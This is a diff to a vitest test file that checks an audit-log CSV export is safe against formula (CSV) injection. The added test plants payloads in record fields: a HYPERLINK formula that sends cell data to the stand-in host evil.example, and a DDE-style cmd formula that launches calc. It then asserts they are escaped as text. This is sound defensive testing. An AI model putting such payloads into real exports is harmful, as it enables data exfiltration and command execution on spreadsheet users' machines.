@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -117,6 +118,16 @@ describe('npm run audit', () => {
     expect(lines[1]).toMatch(/^2026-12-04 10:00:00,main,[^,]+,1001,temporary_password,yamada\.taro,issued,"{""identityChecked"":true}",[0-9a-f]{64}$/);
     expect(lines.filter((line) => line !== '')).toHaveLength(2);
     expect((await audit(['export', '--from', '2026-12-31', '--to', '2026-12-01'])).code).toBe(2);
+
+    // What a customer typed reaches a cell: Excel must show it as text, never run it (OWASP's CSV injection rule).
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"詳細")';
+    await store.audit.append({ at: day + 60_000, staffNumber: '1001', action: 'unlock_id', subject: formula, outcome: 'not_locked', detail: '{}' });
+    await store.audit.append({ at: day + 120_000, staffNumber: '1001', action: 'unlock_id', subject: '@SUM(1+1)*cmd|" /C calc"!A0', outcome: '-2+3', detail: '{}' });
+    const withFormulas = (await audit(['export', '--from', '2026-12-04', '--to', '2026-12-04'])).out.split('\r\n');
+    const cells = (line: string) => parseCsv(line)[0] as string[];
+    expect(cells(withFormulas[2]!)[5]).toBe(`'${formula}`);
+    expect(cells(withFormulas[3]!).slice(5, 7)).toEqual(['\'@SUM(1+1)*cmd|" /C calc"!A0', "'-2+3"]);
+    expect(withFormulas.slice(1).filter(Boolean).map(cells).flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
 
     asOwner(testEngine === 'postgres' ? 'DROP TRIGGER audit_trail_guard ON audit_trail' : 'DROP TRIGGER audit_trail_no_update');
     asOwner("UPDATE audit_trail SET subject = 'hanako.suzuki@example.com' WHERE action = 'temporary_password'");
